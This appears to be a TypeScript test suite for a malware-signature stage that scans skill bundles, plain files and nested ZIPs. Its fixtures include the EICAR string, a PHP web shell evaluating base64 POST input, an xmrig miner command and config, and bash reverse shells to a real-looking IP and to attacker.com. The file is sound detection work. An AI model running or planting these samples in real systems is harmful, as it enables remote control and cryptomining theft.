// The signature stage through the engine: YR1–YR4 on the raw bytes of plain files, binaries, containers
// and members at any depth; YR-CUSTOM from a compiled user set; matcher caps as `output_limit` rows.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Issue, ScanReport } from '../report/types.js';
import { RULES } from '../rules/index.js';
import { compileSignatures } from '../signatures/index.js';
import { makeBundle } from '../../test/helpers/bundle.js';
import { buildZip } from '../../test/helpers/zip-builder.js';
import { Ledger } from '../ledger/index.js';
import { defaultLimits } from '../limits/index.js';
import type { Artifact } from '../shared/artifact.js';
import { scan } from './scan.js';
import { runSignatureStage } from './signatures.js';

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const SKILL = '---\nname: helper\ndescription: Formats dates for reports.\n---\n# Helper\n\nRun scripts/fmt.py.\n';
// Deflated, so the payload is not visible in the container's own bytes: only the member scan can see it.
const deflated = (name: string, data: string | Buffer): { name: string; data: string | Buffer; method: number } => ({ name, data, method: 8 });

function scanOf(files: Parameters<typeof makeBundle>[0], extra: Partial<Parameters<typeof scan>[0]> = {}): ScanReport {
  return scan({ target: makeBundle(files), ...extra });
}

const yr = (r: ScanReport): Issue[] => r.issues.filter((i) => i.id.startsWith('YR'));
const places = (r: ScanReport, id: string): string[] =>
  yr(r).filter((i) => i.id === id).flatMap((i) => i.occurrences.map((o) => `${o.file}:${o.start_line}`)).sort();

test('YR1 on EICAR in a plain text file: CRITICAL, pattern = signature name, line of the match, evidence', () => {
  const r = scanOf({ 'SKILL.md': SKILL, 'notes/av-check.txt': `AV probe below\n\n${EICAR}\n` });
  const [issue] = yr(r);
  assert.ok(issue);
  assert.deepEqual([issue.id, issue.severity, issue.pattern, issue.category], ['YR1', 'CRITICAL', 'eicar_test_file', 'Malware']);
  assert.deepEqual(issue.location, { file: 'notes/av-check.txt', start_line: 3, end_line: 3 });
  assert.equal(issue.finding, EICAR);
  assert.deepEqual(issue.evidence.strings, [{ id: '$eicar', count: 1, offsets: [16] }]);
  assert.equal(issue.evidence.signature_file, 'bundled/malware.yar');
  assert.equal(r.risk_assessment.recommendation, 'DO_NOT_INSTALL');
  assert.ok(r.rules?.some((d) => d.id === 'YR1'));
  assert.equal(r.analysis_completeness.analyzer_statuses.find((s) => s.analyzer_id === 'signatures')?.status, 'completed');
});

test('YR1 on EICAR in a ZIP member two levels deep (deflated), found through the virtual path', () => {
  const inner = buildZip([deflated('payload/probe.txt', `x\n${EICAR}\n`)]);
  const outer = buildZip([deflated('vendor/inner.zip', inner), deflated('README.md', '# ok\n')]);
  const r = scanOf({ 'SKILL.md': SKILL, 'assets/bundle.zip': outer });
  assert.deepEqual(places(r, 'YR1'), ['assets/bundle.zip!/vendor/inner.zip!/payload/probe.txt:2']);
});

test('YR1 on EICAR inside a binary file (no text view) and in a stored ZIP: the container bytes are scanned too', () => {
  const binary = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 1, 2, 0xff]), Buffer.from(EICAR, 'latin1'), Buffer.alloc(64)]);
  const stored = buildZip([{ name: 'blob.bin', data: binary, method: 0 }]);
  const r = scanOf({ 'SKILL.md': SKILL, 'bin/tool.dat': binary, 'pkg/stored.zip': stored });
  assert.deepEqual(places(r, 'YR1'), ['bin/tool.dat:1', 'pkg/stored.zip!/blob.bin:1', 'pkg/stored.zip:1']);
  assert.equal(yr(r)[0]?.finding, EICAR);
});

test('an archive target: its own bytes and its members are scanned', () => {
  const stored = buildZip([{ name: 'SKILL.md', data: SKILL, method: 0 }, { name: 'probe.txt', data: EICAR, method: 0 }]);
  const dir = makeBundle({ 'skill.zip': stored });
  const r = scan({ target: `${dir}/skill.zip` });
  assert.deepEqual(places(r, 'YR1'), ['probe.txt:1', 'skill.zip:1'], 'a container reports line 1');
});

test('YR2, YR3 and YR4 fire on working artefacts, with their severities', () => {
  const r = scanOf({
    'SKILL.md': SKILL,
    'web/shell.php': '<?php if (isset($_POST["c"])) { @eval(base64_decode($_POST["c"])); } ?>\n',
    'config/miner.json': '{ "donate-level": 1, "pools": [ { "algo": "rx/0", "url": "pool.example.net:3333" } ] }\n',
    'scripts/start.sh': '#!/bin/bash\nnohup ./xmrig -o pool.minexmr.net:4444 -u 44AFFq5kSiGBoZ4NMDw -k &\nbash -i >& /dev/tcp/45.61.1.7/4444 0>&1\n',
  });
  const got = yr(r).map((i) => `${i.id} ${i.severity} ${i.pattern} ${i.location.file}:${i.location.start_line}`).sort();
  assert.deepEqual(got, [
    'YR2 CRITICAL php_webshell_request_eval web/shell.php:1',
    'YR3 HIGH crypto_miner_command_line scripts/start.sh:2',
    'YR3 HIGH crypto_xmrig_config config/miner.json:1',
    'YR4 HIGH reverse_shell_bash_dev_tcp scripts/start.sh:3',
  ]);
});

test('look-alike twins stay quiet: prose about reverse shells, xmrig, web shells and EICAR', () => {
  const r = scanOf({
    'SKILL.md': SKILL,
    'docs/security.md': [
      '# Threats we block',
      'Attackers open a reverse shell with bash and /dev/tcp, or with `nc -e`; miners such as xmrig talk to',
      'stratum+tcp:// pools. A PHP web shell passes $_POST input to eval. Test your AV with the EICAR file.',
      'Example seen in reports: `bash -i >& /dev/tcp/attacker.com/4444 0>&1` (never run this).',
      '',
    ].join('\n'),
    'scripts/check.sh': '#!/bin/sh\nnc -zv api.example.com 443\npkill xmrig || true\n',
  });
  assert.deepEqual(yr(r), []);
});

test('YR-CUSTOM: a user set reports the signature name with its meta severity and confidence', () => {
  const custom = compileSignatures([{
    file: 'rules/acme.yar',
    text: 'rule acme_token { meta: severity = "HIGH" confidence = "0.9" strings: $t = "ACME-INTERNAL-" nocase condition: $t }',
  }]);
  const files = { 'SKILL.md': SKILL, 'scripts/fmt.py': 'TOKEN = "acme-internal-7731"\n' };
  const r = scanOf(files, { customSignatures: custom });
  const issue = yr(r)[0];
  assert.deepEqual([issue?.id, issue?.severity, issue?.confidence, issue?.pattern, issue?.location.file], ['YR-CUSTOM', 'HIGH', 0.9, 'acme_token', 'scripts/fmt.py']);
  assert.equal(issue?.evidence.custom, true);
  assert.deepEqual(yr(scanOf(files)), [], 'without the set, nothing');
});

test('matcher caps hit: an output_limit row with observed/limit values, and the verdict is not SAFE', () => {
  // The rule can never fire (its count is capped below 5000), so only the cap row can keep SAFE away.
  const custom = compileSignatures([{ file: 'rules/count.yar', text: 'rule many_z { strings: $z = "zq" condition: #z > 5000 }' }]);
  const r = scanOf({ 'SKILL.md': SKILL, 'data/z.txt': 'zq\n'.repeat(6000) }, { customSignatures: custom });
  const row = r.analysis_completeness.ledger_exceptions.find((e) => e.reason_code === 'output_limit' && e.path === 'data/z.txt');
  assert.ok(row, 'output_limit row');
  assert.deepEqual([row.observed, row.limit, row.unit], [4097, 4096, 'records']);
  assert.match(row.message, /many_z:\$z/);
  assert.equal(yr(r).length, 0);
  assert.notEqual(r.risk_assessment.recommendation, 'SAFE');
  assert.equal(r.analysis_completeness.is_complete, false);
});

test('a rule list without signature rules runs no signature stage', () => {
  const r = scanOf({ 'SKILL.md': SKILL, 'a.txt': EICAR }, { rules: RULES.filter((x) => x.kind !== 'signature') });
  assert.deepEqual(yr(r), []);
  assert.equal(r.analysis_completeness.analyzer_statuses.some((s) => s.analyzer_id === 'signatures'), false);
});

test('user-excluded files are not scanned; out-of-scope binaries are', () => {
  const r = scanOf({ 'SKILL.md': SKILL, 'skip/a.txt': EICAR, 'img/x.bin': Buffer.concat([Buffer.alloc(16), Buffer.from(EICAR)]) }, { excludes: ['skip/**'] });
  assert.deepEqual(places(r, 'YR1'), ['img/x.bin:1']);
});

test('the scan deadline during signature matching: a runtime_limit row names the first unscanned component', () => {
  const ledger = new Ledger();
  const component = (path: string): Artifact => ({ path, origin: 'disk', bytes: Buffer.from(EICAR), size: EICAR.length, truncated: false, mode: 0, hidden: false });
  for (const path of ['a.txt', 'b.txt', 'c.txt']) ledger.addInventory({ path, content_kind: 'text', disposition: 'analyzed', size_bytes: 68, hidden: false, local_only: false });
  let calls = 0;
  const result = runSignatureStage({
    rules: RULES, components: ['a.txt', 'b.txt', 'c.txt'].map(component), views: new Map(),
    bundle: { paths: [], manifest: null, manifestPath: null, bytecode: [], inventory: [] },
    limits: defaultLimits(), ledger, deadline: { expired: () => ++calls > 1, elapsedMs: () => 1234 }, skip: () => false,
  });
  assert.deepEqual([result.scanned, result.findings.map((f) => f.file)], [1, ['a.txt']]);
  const row = ledger.exceptions.find((e) => e.reason_code === 'runtime_limit');
  assert.deepEqual([row?.path, row?.observed, row?.analyzers], ['b.txt', 1.234, ['signatures']]);
  assert.deepEqual(['b.txt', 'c.txt'].map((p) => ledger.getInventory(p)?.disposition), ['partial', 'partial']);
});

test('one deadline row per scan: when analysis already recorded it, the stage only marks what it did not scan', () => {
  const ledger = new Ledger();
  ledger.addInventory({ path: 'a.bin', content_kind: 'binary', disposition: 'analyzed', size_bytes: 4, hidden: false, local_only: false });
  ledger.exception({ phase: 'analysis', reason: 'runtime_limit', path: 'notes.md', observed: 2, limit: 1, unit: 'seconds' });
  runSignatureStage({
    rules: RULES, components: [{ path: 'a.bin', origin: 'disk', bytes: Buffer.from('abcd'), size: 4, truncated: false, mode: 0, hidden: false }], views: new Map(),
    bundle: { paths: [], manifest: null, manifestPath: null, bytecode: [], inventory: [] },
    limits: defaultLimits(), ledger, deadline: { expired: () => true, elapsedMs: () => 2000 }, skip: () => false,
  });
  assert.deepEqual(ledger.exceptions.map((e) => e.path), ['notes.md']);
  assert.equal(ledger.getInventory('a.bin')?.disposition, 'partial');
});
